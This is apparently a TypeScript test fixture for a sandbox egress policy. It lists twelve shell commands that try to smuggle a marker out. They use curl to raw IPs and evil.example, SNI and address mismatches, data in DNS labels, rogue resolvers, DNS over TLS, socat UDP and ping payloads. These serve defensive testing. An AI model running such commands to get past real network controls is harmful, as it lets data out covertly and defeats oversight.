/**
 * Ways out that a command inside a run may try, each a line of shell that carries a marker. One list, used twice: in enforce
 * mode nothing arrives, and in monitor mode everything does, which proves that each attempt really is one.
 */
export interface Attempt {
  title: string;
  /** The shell command; `$M` is the marker, `$H` the marker in hex. */
  script: string;
  /** What the record says of the refusal. */
  event: {
    kind: "connection" | "dns";
    reason: string;
    protocol: string;
    ip?: string;
    name?: (marker: string) => string;
  };
}

const quick = "curl -sk --max-time 4 -o /dev/null";

/** `allowed.example` (203.0.113.10) is what a policy may allow; all the rest is not. */
export const attempts: readonly Attempt[] = [
  {
    title: "a raw IPv4 address",
    script: `${quick} "http://203.0.113.66/$M"`,
    event: { kind: "connection", reason: "no_name", protocol: "tcp", ip: "203.0.113.66" },
  },
  {
    title: "a raw IPv6 address",
    script: `${quick} "http://[2001:db8:200::66]/$M"`,
    event: { kind: "connection", reason: "no_name", protocol: "tcp", ip: "2001:db8:200::66" },
  },
  {
    title: "a host that is not on the list",
    script: `${quick} "https://evil.example/$M"`,
    event: { kind: "dns", reason: "default", protocol: "dns", name: () => "evil.example" },
  },
  {
    title: "the allowed name's SNI at the attacker's address",
    script: `${quick} --connect-to ::203.0.113.66:443 "https://allowed.example/$M"`,
    event: { kind: "connection", reason: "no_name", protocol: "tcp", ip: "203.0.113.66" },
  },
  {
    title: "the attacker's SNI at the allowed address",
    script: `dig +short allowed.example >/dev/null; ${quick} --connect-to ::203.0.113.10:443 "https://$M.example/"`,
    event: { kind: "connection", reason: "default", protocol: "tls", name: (marker) => `${marker}.example` },
  },
  {
    title: "data in a DNS label",
    script: `dig +tries=1 +time=2 "$M.evil.example" >/dev/null`,
    event: { kind: "dns", reason: "default", protocol: "dns", name: (marker) => `${marker}.evil.example` },
  },
  {
    title: "another resolver",
    script: `dig +tries=1 +time=2 @203.0.113.54 "$M.evil.example" >/dev/null`,
    event: { kind: "dns", reason: "default", protocol: "dns", name: (marker) => `${marker}.evil.example` },
  },
  {
    title: "DNS over TLS to a known resolver",
    script: `printf '%s' "$M" | timeout 3 openssl s_client -connect 203.0.113.54:853 -servername "$M.example" -quiet`,
    event: { kind: "connection", reason: "no_name", protocol: "tcp", ip: "203.0.113.54" },
  },
  {
    title: "UDP",
    script: `printf '%s' "$M" | socat -t1 - UDP4:203.0.113.66:9100`,
    event: { kind: "connection", reason: "no_name", protocol: "udp", ip: "203.0.113.66" },
  },
  {
    title: "UDP over IPv6",
    script: `printf '%s' "$M" | socat -t1 - UDP6:[2001:db8:200::66]:9100`,
    event: { kind: "connection", reason: "no_name", protocol: "udp", ip: "2001:db8:200::66" },
  },
  {
    title: "ping with a payload",
    script: `ping -c1 -W1 -p "$H" 203.0.113.66`,
    event: { kind: "connection", reason: "protocol_denied", protocol: "icmp", ip: "203.0.113.66" },
  },
  {
    title: "ping with a payload over IPv6",
    script: `ping -c1 -W1 -p "$H" 2001:db8:200::66`,
    event: { kind: "connection", reason: "protocol_denied", protocol: "icmp", ip: "2001:db8:200::66" },
  },
];

/** One shell script that makes every attempt, each with its own marker, whatever becomes of the others. */
export function scriptOf(markers: readonly string[]): string {
  const lines = attempts.map(({ script }, i) => {
    const marker = markers[i]!;
    return `M=${marker} H=${Buffer.from(marker).toString("hex")}\n( ${script} ) >/dev/null 2>&1 </dev/null &`;
  });
  return `${lines.join("\n")}\nwait`;
}
